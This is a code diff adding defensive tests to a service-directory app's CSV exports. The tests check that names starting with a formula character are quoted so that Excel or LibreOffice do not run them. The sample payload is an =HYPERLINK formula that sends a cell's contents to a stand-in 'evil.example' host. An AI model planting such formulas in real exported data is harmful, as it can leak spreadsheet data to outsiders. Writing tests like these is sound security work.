@@ -1,9 +1,11 @@
-import { exports } from 'cloudflare:workers';
+import { env, exports } from 'cloudflare:workers';
 import { strFromU8, unzipSync } from 'fflate';
 import Papa from 'papaparse';
-import { beforeAll, describe, expect, it } from 'vitest';
+import { parsePhoneNumberFromString } from 'libphonenumber-js/min';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { CONFIDENTIAL_LOCATION_MARKERS, SAMPLE_MARKERS, sampleDirectory } from '../../db/seed/sample-directory.mjs';
 import { PATHWAY_MARKERS } from '../../db/seed/sample-pathways.mjs';
+import { growDirectory, shrinkDirectory } from '../support/grow-directory.ts';
 import { get, type ApiResponse } from '../support/http.ts';
 import { hsdsErrors, responseSchema } from '../support/hsds-schemas.ts';
 
@@ -222,5 +224,47 @@ describe('the exports', () => {
       names: ['colour'],
     });
     expect((await get(`${EXPORTS}/hsds/secrets.csv`)).status).toBe(404);
+  });
+});
+
+describe('CSV exports opened in a spreadsheet', () => {
+  // A name a maintainer typed that Excel or LibreOffice would run as a formula (CSV injection).
+  const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Open")';
+  const grown: string[] = [];
+  const csvs = new Map<string, string>();
+  beforeAll(async () => {
+    grown.push(...(await growDirectory(env.DB, 1, { name: FORMULA })));
+    const { body } = await download('/hsds/datapackage.json');
+    const tables = body.resources.filter((r: { format?: string }) => r.format === 'csv');
+    for (const path of ['/services.csv', ...tables.map((r: { path: string }) => `/hsds/${r.path}`)])
+      csvs.set(path, (await download(path)).text);
+  }, 60_000);
+  afterAll(() => shrinkDirectory(env.DB, grown));
+
+  it('a name starting with = goes out with a leading quote in every CSV that holds names, never as a formula', () => {
+    const named = new Map<string, string[]>();
+    for (const [path, text] of csvs) {
+      const cells = Papa.parse<string[]>(text).data.flat();
+      // A number (a longitude of -90.5) is written as a number: a spreadsheet reads it as one.
+      const formulas = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));
+      expect({ path, formulas }).toEqual({ path, formulas: [] });
+      const withName = cells.filter((c) => c.includes(FORMULA));
+      if (withName.length) named.set(path, withName);
+    }
+    // The service's own row in the spreadsheet CSV and in HSDS services.csv: the name, after one quote.
+    expect(named.get('/services.csv')).toEqual([expect.stringMatching(/^'=HYPERLINK\(.* \d+$/)]);
+    expect(named.get('/hsds/services.csv')).toEqual([expect.stringMatching(/^'=HYPERLINK\(.* \d+$/)]);
+    for (const [path, cells] of named)
+      for (const cell of cells)
+        expect({ path, quoted: cell.startsWith(`'${FORMULA}`) }).toEqual({ path, quoted: true });
+  });
+
+  it("a phone number (+964…) goes out as '+964…, which still reads as the same number", () => {
+    const rows = Papa.parse<Record<string, string>>(csvs.get('/services.csv')!, { header: true }).data;
+    const phones = rows.find((r) => r.id === grown[0])?.phones ?? '';
+    expect(phones).toBe("'+9647700000000");
+    expect(parsePhoneNumberFromString(phones.slice(1))?.number).toBe('+9647700000000');
+    const hsdsPhones = Papa.parse<Record<string, string>>(csvs.get('/hsds/phones.csv')!, { header: true }).data;
+    expect(hsdsPhones.find((r) => r.service_id === grown[0])?.number).toBe("'+9647700000000");
   });
 });
